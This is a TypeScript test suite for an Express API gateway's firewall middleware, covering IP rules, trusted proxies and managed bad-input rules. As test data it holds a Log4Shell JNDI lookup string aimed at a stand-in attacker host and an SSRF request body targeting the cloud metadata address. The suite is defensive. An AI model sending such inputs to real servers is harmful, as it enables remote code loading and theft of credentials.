import { expect } from 'chai';
import express from 'express';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FirewallConfig } from './config.js';
import { firewallBodyMiddleware, firewallMiddleware } from './middleware.js';

interface Blocked {
  error: { code: string; message: string; details: { rule: string }[] };
  requestId: string;
}
const blockedBody = async (res: Response): Promise<Blocked> => (await res.json()) as Blocked;

describe('firewall middleware (Express)', () => {
  let server: Server;
  let base: string;
  let config: FirewallConfig;
  const logged: Record<string, unknown>[] = [];
  const logger = { warn: (object: Record<string, unknown>) => logged.push(object) };

  before(async () => {
    const app = express();
    app.use((req, _res, next) => {
      (req as unknown as { id: string }).id = 'req-1';
      next();
    });
    app.use(firewallMiddleware(() => config, logger));
    app.use(express.json({ verify: (req, _res, buf) => ((req as unknown as { rawBody: Buffer }).rawBody = buf) }));
    app.use(firewallBodyMiddleware(() => config, logger));
    app.all('/{*rest}', (_req, res) => {
      res.json({ ok: true });
    });
    app.use((err: Error, _req: express.Request, res: express.Response, _next: express.NextFunction) => {
      res.status(500).json({ error: { code: 'INTERNAL', message: err.message } });
    });
    await new Promise<void>((resolve) => {
      server = app.listen(0, '127.0.0.1', () => resolve());
    });
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(() => new Promise<void>((resolve) => server.close(() => resolve())));
  beforeEach(() => {
    logged.length = 0;
    config = { ipAddresses: { allowed: [], blocked: [] }, managedRules: ['common', 'knownBadInputs'], trustedProxies: [] };
  });

  it('passes an ordinary request', async () => {
    const res = await fetch(`${base}/demo/demo.Person/1?expand=employer`);
    expect(res.status).to.equal(200);
    expect(logged).to.deep.equal([]);
  });

  it('answers 403 FIREWALL_BLOCKED with the rule id and logs the rule, not the payload', async () => {
    const res = await fetch(`${base}/demo/demo.Person/1`, { headers: { 'user-agent': '${jndi:ldap://attacker.example/x}' } });
    expect(res.status).to.equal(403);
    const body = await blockedBody(res);
    expect(body.requestId).to.equal('req-1');
    expect(body.error.code).to.equal('FIREWALL_BLOCKED');
    expect(body.error.details).to.deep.equal([{ rule: 'knownBadInputs.log4j' }]);
    expect(body.error.message).to.match(/^the API gateway firewall blocked this request: /);
    expect(logged).to.have.length(1);
    expect(logged[0]).to.include({ rule: 'knownBadInputs.log4j', requestId: 'req-1', clientAddress: '127.0.0.1', method: 'GET' });
    expect(JSON.stringify(logged)).not.to.include('attacker.example');
  });

  it('inspects the JSON body after it has been read', async () => {
    const blocked = await fetch(`${base}/demo`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ create: { schema: 'Transaction', data: { actions: [{ locationUri: 'http://169.254.169.254/latest/meta-data/' }] } } }),
    });
    expect(blocked.status).to.equal(403);
    expect((await blockedBody(blocked)).error.details[0].rule).to.equal('common.metadata-address');
    const fine = await fetch(`${base}/demo`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ create: { schema: 'demo.Person', data: { name: 'C:\\..\\boot.ini ${name} jndi 169.254.169.254' } } }),
    });
    expect(fine.status).to.equal(200);
  });

  it('applies IP rules to the socket peer, and to X-Forwarded-For only from trusted proxies', async () => {
    config = { ...config, ipAddresses: { allowed: ['198.51.100.0/24'], blocked: ['198.51.100.66/32'] } };
    let res = await fetch(`${base}/x`, { headers: { 'x-forwarded-for': '198.51.100.7' } });
    expect(res.status).to.equal(403);
    expect((await blockedBody(res)).error.details[0].rule).to.equal('ip.not-allowed');

    config = { ...config, trustedProxies: ['127.0.0.0/8', '::1/128'] };
    res = await fetch(`${base}/x`, { headers: { 'x-forwarded-for': '10.9.9.9, 198.51.100.7' } });
    expect(res.status).to.equal(200);
    res = await fetch(`${base}/x`, { headers: { 'x-forwarded-for': '198.51.100.7, 198.51.100.66' } });
    expect(res.status).to.equal(403);
    expect((await blockedBody(res)).error.details[0].rule).to.equal('ip.blocked');
    res = await fetch(`${base}/x`);
    expect(res.status).to.equal(403);
  });

  it('fails closed on an unusable config', async () => {
    config = { ...config, ipAddresses: { allowed: ['not-a-cidr'], blocked: [] } };
    const res = await fetch(`${base}/x`);
    expect(res.status).to.equal(500);
  });
});
